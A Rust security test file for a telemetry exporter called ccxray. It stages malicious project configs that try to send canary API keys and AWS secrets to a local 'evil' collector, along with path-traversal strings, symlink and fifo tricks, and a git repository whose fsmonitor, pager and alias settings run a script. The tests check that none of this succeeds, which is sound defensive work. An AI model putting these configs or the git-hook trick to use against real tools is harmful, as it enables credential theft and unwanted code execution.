//! Projects and directories that somebody laid out to make data leave: nothing does, and nothing of theirs is looked at.

use std::{
    collections::BTreeSet,
    ffi::OsStr,
    fs,
    os::unix::{
        ffi::OsStrExt,
        fs::{PermissionsExt, symlink},
    },
    path::{Component, Path, PathBuf},
    process::Command,
};

use ccxray_tests::{
    canary::Canaries,
    client::Ask,
    collector::{Collector, Reply},
    daemons::{Exporter, binary},
    eventually,
    machine::{Machine, agrees, has_requests, resources, sends},
    trace::{Calls, Trace, Tracer},
};
use serde_json::{Value, json};

/// What the person's file lets projects have, and what it does not.
const ALLOWED: &str = "TEAM_OTEL_TOKEN";
const SECRETS: [&str; 4] = ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "EVIL_HOST"];

/// A machine with a good project, a bad collector, and variables that it would like to have.
struct Scene {
    machine: Machine,
    good: Collector,
    evil: Collector,
    /// A trusted collector that says that pushes are to go to the bad one.
    redirecting: Collector,
    canaries: Canaries,
    allowed: String,
    variables: Vec<(String, String)>,
}

impl Scene {
    async fn new() -> Self {
        let (machine, good, evil, redirecting) = (
            Machine::new().await,
            Collector::start().await,
            Collector::start().await,
            Collector::start().await,
        );
        redirecting.reply(Reply::Redirect(format!("{}/v1/metrics", evil.url())));
        let (canaries, allowed) = (Canaries::default(), Canaries::default().mint(ALLOWED));
        let mut variables: Vec<_> =
            SECRETS.iter().map(|name| ((*name).to_owned(), canaries.mint(name))).collect();
        variables.push((ALLOWED.to_owned(), allowed.clone()));
        Self { machine, good, evil, redirecting, canaries, allowed, variables }
    }

    fn path(&self, below: &str) -> PathBuf {
        self.machine.path(below)
    }

    /// Makes a project whose file says this text.
    fn file(&self, name: &str, text: &str) -> PathBuf {
        let dir = self.path(name);
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join(".ccxray.json"), text).unwrap();
        dir
    }

    /// What a bad project's file says below `otel`, with this under `key`.
    fn bad(&self, key: &str, value: Value) -> Value {
        let mut otel = sends("bad", 2, &self.evil.url());
        otel[key] = value;
        otel
    }

    fn person_agrees(&self) {
        let mut own = agrees(2);
        own["trusted_roots"] = json!([self.path("work")]);
        own["allow_env"] = json!([ALLOWED]);
        self.machine.person_says(&own);
    }

    /// What a command of the exporter says, which has the variables, too.
    fn said(&self, arguments: &[&str], trace: &Trace) -> String {
        let mut command = trace.command(&binary("ccxray-exporter"));
        command.args(arguments).env_clear().env("PATH", std::env::var_os("PATH").unwrap_or_default());
        command.env("HOME", self.machine.state.home()).env("CCXRAY_STATE_DIR", self.machine.state.dir());
        let output = command.envs(self.variables.iter().cloned()).output().unwrap();
        [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat()
    }

    /// A good project, which may use a variable, and one whose collector redirects.
    fn good_projects(&self) -> [PathBuf; 2] {
        let mut otel = sends("good", 2, &self.good.url());
        otel["headers"] = json!({"authorization": format!("Bearer ${{{ALLOWED}}}")});
        let good = self.machine.project("good", &otel);
        self.machine.trusts(&good);
        [good, self.machine.trusted("redirected", 1, &self.redirecting)]
    }

    /// Projects in a place of which the person trusts everything: their files count, but not for that.
    fn bad_projects(&self) -> Vec<PathBuf> {
        let project = |name: &str, otel: &Value| self.machine.project(&format!("work/{name}"), otel);
        let file = |name: &str, text: &str| self.file(&format!("work/{name}"), text);
        let plain = json!({"otel": sends("bad", 2, &self.evil.url())}).to_string();
        let evil = self.evil.address();
        let mut dirs = vec![
            project("variable-in-endpoint", &self.bad("endpoint", json!("http://${EVIL_HOST}:4318"))),
            project(
                "variable-in-path",
                &self.bad("endpoint", json!(format!("http://{evil}/${{AWS_SECRET_ACCESS_KEY}}"))),
            ),
            project("key-in-header", &self.bad("headers", json!({"x-stolen": "${ANTHROPIC_API_KEY}"}))),
            project("other-variable", &self.bad("headers", json!({"x-stolen": "${AWS_SECRET_ACCESS_KEY}"}))),
            project(
                "both-variables",
                &self.bad("headers", json!({"x-one": "${TEAM_OTEL_TOKEN}", "x-two": "${OPENAI_API_KEY}"})),
            ),
            project(
                "variable-in-attribute",
                &self.bad("resource_attributes", json!({"team": "${OPENAI_API_KEY}"})),
            ),
            project(
                "literal-secret",
                &self.bad("headers", json!({"authorization": format!("Bearer sk-ant-{}", "a".repeat(40))})),
            ),
            project("unknown-key", &self.bad("trusted_root", json!("/"))),
            project("own-keys", &self.bad("allow_env", json!(SECRETS))),
            // An address that is for documentation only.
            project(
                "credential-in-the-clear",
                &json!({"tier": 1, "endpoint": "http://192.0.2.1:4318", "headers": {"authorization": "Bearer ${TEAM_OTEL_TOKEN}"}}),
            ),
            file("huge", &format!("{plain}{}", " ".repeat(64 * 1024))),
            file("deep", &"[".repeat(60_000)),
            file("twice", &plain.replacen("\"tier\"", "\"tier\":0,\"tier\"", 1)),
            file("cut", &plain[..plain.len() - 1]),
        ];
        dirs.push(file("for-all-to-write", &plain));
        fs::set_permissions(dirs[dirs.len() - 1].join(".ccxray.json"), fs::Permissions::from_mode(0o666))
            .unwrap();
        let empty = |name: &str| {
            let dir = self.path(&format!("work/{name}"));
            fs::create_dir_all(&dir).unwrap();
            dir
        };
        let linked = empty("linked-file");
        symlink(self.path("foreign/plain/.ccxray.json"), linked.join(".ccxray.json")).unwrap();
        let fifo = empty("fifo");
        make_fifo(&fifo.join(".ccxray.json"));
        let not_a_file = empty("directory");
        fs::create_dir(not_a_file.join(".ccxray.json")).unwrap();
        let not_text = empty("not-text");
        fs::write(not_text.join(".ccxray.json"), [plain.as_bytes(), b"\xff"].concat()).unwrap();
        // What counts in the person's own place only.
        let personal = empty("personal");
        fs::write(personal.join(".ccxray.user.json"), self.bad_personal()).unwrap();
        symlink(self.path("foreign/plain"), self.path("work/linked")).unwrap();
        dirs.extend([linked, fifo, not_a_file, not_text, personal, self.path("work/linked")]);
        dirs
    }

    /// A personal file that claims everything for the bad collector.
    fn bad_personal(&self) -> String {
        let mut otel = agrees(2);
        otel["endpoint"] = json!(self.evil.url());
        otel["headers"] = json!({"x-stolen": "${AWS_SECRET_ACCESS_KEY}"});
        otel["trusted_roots"] = json!([self.path("")]);
        otel["allow_env"] = json!(["AWS_SECRET_ACCESS_KEY"]);
        json!({"otel": otel}).to_string()
    }

    /// Projects that nobody trusts, or nobody trusts as they are now.
    fn foreign_projects(&self) -> Vec<PathBuf> {
        let plain = json!({"otel": sends("bad", 2, &self.evil.url())}).to_string();
        let changed = self.machine.trusted("changed", 2, &self.good);
        self.file("changed", &plain);
        let vanished = self.machine.trusted("vanished", 2, &self.good);
        fs::remove_file(vanished.join(".ccxray.json")).unwrap();
        fs::create_dir_all(self.path("good/vendor/repository/.git")).unwrap();
        let dirs = [
            "foreign/plain",
            "foreign/personal",
            "foreign/git",
            "goodbye",
            "good/vendor/repository",
            "good/vendor/copied",
        ];
        let mut dirs: Vec<_> = dirs.iter().map(|name| self.file(name, &plain)).collect();
        fs::write(self.path("foreign/personal/.ccxray.user.json"), self.bad_personal()).unwrap();
        let fifo = self.path("foreign/fifo");
        fs::create_dir(&fifo).unwrap();
        make_fifo(&fifo.join(".ccxray.json"));
        dirs.extend([changed, vanished, fifo, self.path("foreign")]);
        dirs
    }

    /// Texts that are to be taken for a directory that they are not.
    fn tricks(&self) -> Vec<String> {
        let (good, foreign) = (self.path("good"), self.path("foreign/plain"));
        let (good, foreign) = (good.display(), foreign.display());
        let mut tricks: Vec<String> = [
            format!("{good}/../foreign/plain"),
            format!("{good}//../foreign/plain"),
            format!("{good}/./../foreign/plain"),
            format!("{good}/..%2fforeign/plain"),
            format!("{good}\u{0}/../foreign/plain"),
            format!("{good}\t/x"),
            format!("{good}\u{202e}"),
            format!("/proc/self/root{foreign}"),
            format!("/proc/self/root{good}"),
            format!("/{foreign}"),
            format!("//{good}"),
            format!("{foreign}/"),
            format!("file://{foreign}"),
        ]
        .into();
        let odd = [
            "/proc/self/cwd",
            "/dev/fd/3",
            "/dev/stdin",
            "/net/host/share",
            "/afs/cell/user",
            "/Network/x",
            "//host/share",
            "~/work",
            "/",
            "/.",
            "/..",
            "C:\\work",
        ];
        tricks.extend(odd.map(str::to_owned));
        tricks.extend([
            format!("/net{good}"),
            format!("/{}", "a/".repeat(3000)),
            format!("{good}/{}", "a/".repeat(3000)),
            format!("{good}/{}", "b".repeat(300)),
        ]);
        tricks
    }

    /// Asks from this directory as a stamp says, as the client states, and as both say.
    async fn asks_from(&self, dir: &OsStr, good: &Path) {
        let client = &self.machine.client;
        client.ask(&Ask::simple("Hi").from_dir(Path::new(dir))).await;
        if let Some(dir) = dir.to_str() {
            client.ask(&Ask::simple("Hi").stating_dir(dir)).await;
            client.ask(&Ask::simple("Hi").stating_dir(dir).from_dir(good)).await;
        }
    }

    fn assert_no_secret(&self, bytes: &[u8], place: &str) {
        assert_eq!(self.canaries.found_in(bytes), Vec::<String>::new(), "{place}");
    }

    /// Nothing was connected to but for these; nothing foreign was looked at; no variable was read that nobody allowed.
    fn assert_harmless(&self, calls: &Calls, allowed: &[&Collector]) {
        let allowed: BTreeSet<_> = allowed.iter().map(|collector| collector.address().to_string()).collect();
        assert!(calls.peers().is_subset(&allowed), "{:?} is not {allowed:?}", calls.peers());
        assert_eq!(calls.lookups(), Vec::<String>::new());
        let read = calls.variables();
        assert!(read.contains("HOME"), "it was traced: {read:?}");
        assert!(!SECRETS.iter().any(|name| read.contains(*name)), "{read:?}");
    }

    fn assert_in_trusted_places(&self, calls: &Calls) {
        let own = ["state", "home", "good", "redirected", "changed", "vanished", "work"]
            .map(|name| self.path(name));
        let root = self.path("");
        let is_ready_file = |path: &Path| {
            path.strip_prefix(&root).is_ok_and(|name| name.to_string_lossy().starts_with("exporter-"))
        };
        let is_own = |path: &Path| {
            own.iter().any(|own| path.starts_with(own)) || root.starts_with(path) || is_ready_file(path)
        };
        let is_plain = |path: &Path| !path.components().any(|part| part == Component::ParentDir);
        let paths = calls.paths().into_iter();
        let odd: Vec<_> =
            paths.filter(|path| !is_plain(path) || !(is_own(path) || is_systems(path))).collect();
        assert_eq!(odd, Vec::<PathBuf>::new());
    }
}

/// Whether a program looks at this by itself: to be loaded, to know its machine, and for the list of mounts.
fn is_systems(path: &Path) -> bool {
    const DIRS: [&str; 8] = [
        "/etc/ld.so.cache",
        "/etc/ld.so.preload",
        "/etc/ssl",
        "/lib",
        "/usr/lib",
        "/proc/sys/vm/overcommit_memory",
        "/proc/self/exe",
        "/sys/fs/cgroup",
    ];
    let is_of_process = path.starts_with("/proc")
        && path.components().count() == 4
        && ["cgroup", "maps", "mountinfo"].iter().any(|name| path.ends_with(name));
    let is_traced = path == binary("ccxray-exporter") || path.ends_with("getenv.so");
    is_of_process || is_traced || DIRS.iter().any(|dir| path.starts_with(dir))
}

fn make_fifo(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

#[tokio::test]
async fn no_project_and_no_directory_makes_anything_leave_that_nobody_agreed_to() {
    let Some(tracer) = Tracer::new() else { return };
    let scene = Scene::new().await;
    let foreign = scene.foreign_projects();
    let bad = scene.bad_projects();
    scene.person_agrees();
    let [good, redirected] = scene.good_projects();
    let trace = tracer.trace();
    let exporter = scene
        .variables
        .iter()
        .fold(Exporter::without_consent().interval("100ms"), |exporter, (name, value)| {
            exporter.variable(name, value)
        });
    let mut exporter =
        exporter.variable("CCXRAY_LOG", "trace").traced(&trace).start(&scene.machine.state).await;
    let tricks = scene.tricks();
    let texts = tricks.iter().map(|text| OsStr::new(text.as_str()));
    let not_text = [scene.path("good").as_os_str().as_bytes(), b"/\xff\xfe"].concat();
    for dir in foreign
        .iter()
        .chain(&bad)
        .map(|dir| dir.as_os_str())
        .chain(texts)
        .chain([OsStr::from_bytes(&not_text)])
    {
        scene.asks_from(dir, &good).await;
    }
    scene.machine.asks(&redirected, 1).await;
    scene.machine.asks(&good, 2).await;
    scene.machine.has_counted(&exporter).await;
    has_requests(&scene.good, 2).await;
    eventually("a redirected push", || (scene.redirecting.count() > 0).then_some(())).await;

    let quiet = tracer.trace();
    for arguments in [&["status"][..], &["status", "--json"], &["preview"], &["doctor"]] {
        scene.assert_no_secret(scene.said(arguments, &quiet).as_bytes(), &format!("{arguments:?}"));
    }
    exporter.stop().await;
    let calls = trace.ended().await;
    assert_eq!(scene.evil.connections(), 0);
    scene.assert_harmless(&calls, &[&scene.good, &scene.redirecting]);
    scene.assert_in_trusted_places(&calls);
    assert!(calls.variables().contains(ALLOWED), "what is allowed is read");

    let pushes = scene.good.received();
    let authorization = format!("Bearer {}", scene.allowed);
    assert!(pushes.iter().all(|push| push.request.header("authorization") == Some(&authorization)));
    assert_eq!(resources(&scene.good, "project.name"), [Some("good".to_owned())]);
    for push in pushes.into_iter().chain(scene.redirecting.received()) {
        scene.assert_no_secret(&push.plain, "a push");
        scene.assert_no_secret(format!("{:?}", push.request.headers).as_bytes(), "a push's head");
    }
    assert_eq!(scene.canaries.found_below(scene.machine.state.root()), Vec::<String>::new());
    assert!(!exporter.said().contains(&scene.allowed), "what came from a variable is masked");
}

/// Makes a repository whose configuration names programs for git to start, which leave a mark. The mark.
fn hostile_repository(dir: &Path) -> PathBuf {
    let (mark, program) = (dir.with_extension("mark"), dir.with_extension("sh"));
    fs::write(&program, format!("#!/bin/sh\ntouch '{}'\n", mark.display())).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    git(dir, &["init", "--quiet"]);
    fs::write(dir.join("tracked"), "").unwrap();
    git(dir, &["add", "tracked"]);
    let program = program.to_str().unwrap();
    for setting in
        ["core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.gitProxy", "diff.external"]
    {
        git(dir, &["config", setting, program]);
    }
    for alias in ["alias.ls-files", "alias.check-ignore"] {
        git(dir, &["config", alias, &format!("!{program}")]);
    }
    mark
}

fn git(dir: &Path, arguments: &[&str]) {
    assert!(Command::new("git").arg("-C").arg(dir).args(arguments).output().unwrap().status.success());
}

#[tokio::test]
async fn commands_in_a_hostile_directory_start_nothing_connect_nowhere_and_show_no_secret() {
    let Some(tracer) = Tracer::new() else { return };
    let scene = Scene::new().await;
    let dirs: Vec<_> = scene.foreign_projects().into_iter().chain(scene.bad_projects()).collect();
    scene.person_agrees();
    let repository = scene.path("foreign/git");
    let mark = hostile_repository(&repository);
    let repository_is = repository.to_str().unwrap();
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["trust", repository_is],
        vec!["doctor", repository_is],
        vec!["init", "--personal", "--dir", repository_is, "--tier", "1", "--yes"],
        vec![
            "init",
            "--dir",
            repository_is,
            "--tier",
            "1",
            "--endpoint",
            "http://127.0.0.1:9",
            "--project-name",
            "x",
        ],
    ];
    commands.push(std::iter::once("doctor").chain(dirs.iter().map(|dir| dir.to_str().unwrap())).collect());
    for dir in &dirs {
        commands.push(vec!["trust", dir.to_str().unwrap()]);
    }
    commands.extend(["doctor", "preview", "status"].map(|command| vec![command]));
    for arguments in commands {
        let trace = tracer.trace();
        let said = scene.said(&arguments, &trace);
        scene.assert_no_secret(said.as_bytes(), &format!("{arguments:?}"));
        assert!(!said.contains(&scene.allowed), "{arguments:?}: {said}");
        let calls = trace.ended().await;
        scene.assert_harmless(&calls, &[]);
        let started: Vec<_> = calls
            .programs()
            .into_iter()
            .filter(|path| !path.ends_with("git") && *path != binary("ccxray-exporter"))
            .collect();
        assert_eq!(started, Vec::<PathBuf>::new(), "{arguments:?}");
        assert!(!mark.exists(), "{arguments:?}");
    }
    assert_eq!(scene.canaries.found_below(scene.machine.state.root()), Vec::<String>::new());
    assert_eq!(scene.evil.connections() + scene.good.connections(), 0);
    // Asked without care, git starts it: the bait is a good one.
    git(&repository, &["status"]);
    assert!(mark.exists());
}
